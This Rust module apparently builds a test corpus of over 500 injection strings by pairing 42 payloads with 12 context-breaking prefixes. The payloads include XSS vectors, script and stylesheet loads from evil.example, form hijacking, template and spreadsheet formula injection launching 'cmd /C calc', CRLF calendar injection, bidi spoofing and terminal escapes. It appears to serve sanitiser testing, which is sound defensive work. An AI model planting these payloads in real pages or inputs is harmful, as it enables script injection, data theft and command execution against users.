//! Texts that want to be more than text, in every way that a format may be left: over five hundred of them.

/// What would run, be asked for, or be counted, if it were not text.
const CORES: [&str; 42] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/p.png\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#1;javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(//evil.example/)\">x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/p.png)",
    "<javascript:alert(1)>",
    "{{ 7 * 7 }}{% include \"layout.html\" %}",
    "${alert(1)}#{alert(1)}",
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT",
    "x\u{2028}alert(1)\u{2029}",
    "a\u{202e}txt.exe\u{2066}b",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1b}[31mred\u{1b}]0;title\u{7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script>",
];

/// What ends the place that a text may stand in.
const EXITS: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "-->",
    "]]>",
    "</title></textarea></style></script>",
    "</bdi></td></table></svg>",
    "\\\");",
    "`;",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
];

/// The cores that are elements of HTML.
pub(super) fn elements() -> impl Iterator<Item = &'static str> {
    CORES.into_iter().filter(|core| core.starts_with('<'))
}

/// Each core behind each exit, every one another text.
pub(super) fn all() -> Vec<String> {
    let behind = |exit: &'static str| CORES.iter().map(move |core| format!("{exit}{core}"));
    EXITS.iter().flat_map(|exit| behind(exit)).collect()
}
